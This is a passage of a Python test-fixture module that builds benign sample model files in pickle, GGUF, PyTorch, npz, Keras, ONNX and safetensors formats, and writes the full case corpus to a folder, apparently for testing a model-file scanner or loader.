        "tags": {"a", "b"},
        "pair": (1, 2),
    }
    members = {
        "archive/data.pkl": state_dict_pickle(),
        "archive/byteorder": b"little",
        "archive/data/0": b"\x00" * 16,
        "archive/data/1": b"\x01" * 16,
        "archive/version": b"3\n",
    }
    header = {"descr": "<f4", "fortran_order": False, "shape": (8, 8)}
    return [
        _ok("values.pkl", pickle.dumps(values)),
        _ok("arrays_p5.pkl", pickle.dumps(arrays, protocol=5)),
        _ok(
            "llama3.gguf",
            gguf_bytes({"general.architecture": "llama", "tokenizer.chat_template": LLAMA3_TEMPLATE}),
            fmt="gguf",
        ),
        _ok(
            "mistral.gguf",
            gguf_bytes({"general.architecture": "llama", "tokenizer.chat_template": MISTRAL_TEMPLATE}),
            fmt="gguf",
        ),
        _ok("three_tensors.pt", torch_zip(members, compress=zipfile.ZIP_DEFLATED), fmt="pytorch"),
        _ok(
            "three.npz",
            torch_zip({f"{k}.npy": npy_bytes(header, v.tobytes()) for k, v in arrays.items()}),
            fmt="npz",
        ),
        _ok("convnet.keras", keras_zip(keras_config(layers)), fmt="keras"),
        _ok(
            "classifier.onnx",
            onnx_model([("Conv", ""), ("Relu", ""), ("Gemm", ""), ("TreeEnsembleClassifier", "ai.onnx.ml")]),
            fmt="onnx",
        ),
        _ok(
            "sharded.safetensors",
            safetensors_bytes({**many, "__metadata__": {"format": "pt"}}, b"\x00" * 160),
            fmt="safetensors",
        ),
    ]


def all_cases() -> list[Case]:
    return [
        *pickle_cases(),
        *archive_cases(),
        *array_cases(),
        *keras_cases(),
        *graph_cases(),
        *weights_cases(),
        *more_benign_cases(),
        *bad_input_cases(),
    ]


def build_corpus(folder: Path, cases: list[Case] | None = None) -> dict[str, Case]:
    """Write every case into `folder` (one file each); returns path name -> case."""
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for case in cases or all_cases():
        case.build(folder / case.name)
        out[case.name] = case
    return out
